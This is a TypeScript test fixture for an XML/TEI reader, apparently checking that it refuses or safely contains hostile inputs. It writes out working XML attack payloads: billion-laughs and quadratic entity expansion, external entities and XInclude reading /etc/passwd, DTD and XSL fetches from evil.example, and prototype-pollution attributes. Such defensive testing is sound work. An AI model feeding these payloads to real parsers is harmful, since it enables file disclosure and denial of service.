import { bytesOf, holds, opened, reads, refused, textIn, type HostileFile } from './hostile-file.ts';

/** XML is read as TEI, which expands no entity of its own and fetches nothing; what is no TEI is refused. */
const unknown = (name: string, content: () => string | Uint8Array): HostileFile =>
  refused(`${name}.xml`, /^(?:xml\/(?:ill-formed|too-deep)|tei\/no-text|text\/binary|file\/unknown-format)$/, content);

const TEI = 'xmlns="http://www.tei-c.org/ns/1.0"';

const tei = (
  name: string,
  check: (article: Parameters<typeof textIn>[0]) => boolean,
  body: () => string,
  more: () => string = () => '',
): HostileFile => opened(`${name}.xml`, check, () => `<TEI ${TEI}><text><body>${body()}</body></text>${more()}</TEI>`);

const annotations = (count: number, target: string): string =>
  `<standOff><listAnnotation>${Array.from({ length: count }, (_, i) => `<annotation xml:id="a${i}" target="${target}"/>`).join('')}</listAnnotation></standOff>`;

const laughs = (levels: number): string =>
  `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from(
    { length: levels },
    (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`,
  ).join('')}]>`;

const xhtml = (doctype: string, body: string): string =>
  `<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml">${doctype}<body><p>canary ${body}</p></body></html>`;

const isSmall = (article: Parameters<typeof textIn>[0]): boolean =>
  textIn(article).includes('canary') && textIn(article).length < 5000 && !textIn(article).includes('root:');

/** XML (PROMISES §5). */
export const xmlFiles: readonly HostileFile[] = [
  unknown('billion laughs', () => `<?xml version="1.0"?>${laughs(9)}<x>&a9;</x>`),
  unknown(
    'quadratic blow-up',
    () => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100_000)}">]><x>${'&a;'.repeat(100_000)}</x>`,
  ),
  unknown('external entity', () => '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
  unknown('parameter entity', () => '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><x/>'),
  unknown(
    'inclusion',
    () => '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></x>',
  ),
  unknown('style sheet', () => '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><x/>'),
  unknown('twenty thousand levels', () => `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`),
  unknown('a million attributes', () => `<a ${Array.from({ length: 300_000 }, (_, i) => `a${i}="b"`).join(' ')}/>`),
  unknown('a long attribute', () => `<a b="${'c'.repeat(10_000_000)}"/>`),
  unknown('two million references', () => `<a>${'&#65;'.repeat(2_000_000)}</a>`),
  unknown('utf-16 without a mark', () => Buffer.from('<?xml version="1.0" encoding="utf-16"?><a>b c</a>', 'utf16le')),
  unknown('utf-7', () => '<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-'),
  unknown('zero bytes', () => bytesOf('<a>', [0], '</a>')),
  unknown('character data at its edges', () => '<a><![CDATA[]]]]><![CDATA[>]]></a>'),
  unknown('namespaces turned over', () => '<a xmlns:xml="http://evil.example" xmlns:xmlns="b"><xml:b/></a>'),
  refused('entities in tei.xml', /^xml\/ill-formed$/, () => `${laughs(9)}<TEI ${TEI}><text>&a9;</text></TEI>`),
  tei(
    'pieces in a circle',
    reads('xyz'),
    () => '<p><q xml:id="a" next="#b">x</q><q xml:id="b" next="#c">y</q><q xml:id="c" next="#b">z</q></p>',
  ),
  tei(
    'speakers by prototype',
    reads('x'),
    () => '<p><said who="#__proto__ #constructor" type="__proto__">x</said></p>',
  ),
  tei(
    'pointers outside',
    reads('x'),
    () => '<p xml:id="p">x</p>',
    () => annotations(1000, '#string-range(p,0,999999999999) #range(p,q) file:///etc/passwd'),
  ),
  tei(
    'annotations of everything',
    ({ annotations: all }) => all.length === 20_000,
    () => `<p xml:id="p">${'x '.repeat(20_000)}</p>`,
    () => annotations(20_000, '#p'),
  ),
  tei(
    'speech in speech',
    ({ annotations: all }) => all.length === 200,
    () => `<p>${'<said>'.repeat(200)}x${'</said>'.repeat(200)}</p>`,
  ),
  tei('notes in notes', holds('x'), () => `<p>${'<note>'.repeat(200)}x${'</note>'.repeat(200)}</p>`),
  opened('laughs in a page.xhtml', isSmall, () => xhtml(laughs(9), '&a9;')),
  opened('a file in a page.xhtml', isSmall, () =>
    xhtml('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;'),
  ),
  opened('an inclusion in a page.xhtml', isSmall, () => xhtml('', '<xi:include href="/etc/passwd" parse="text"/>')),
];
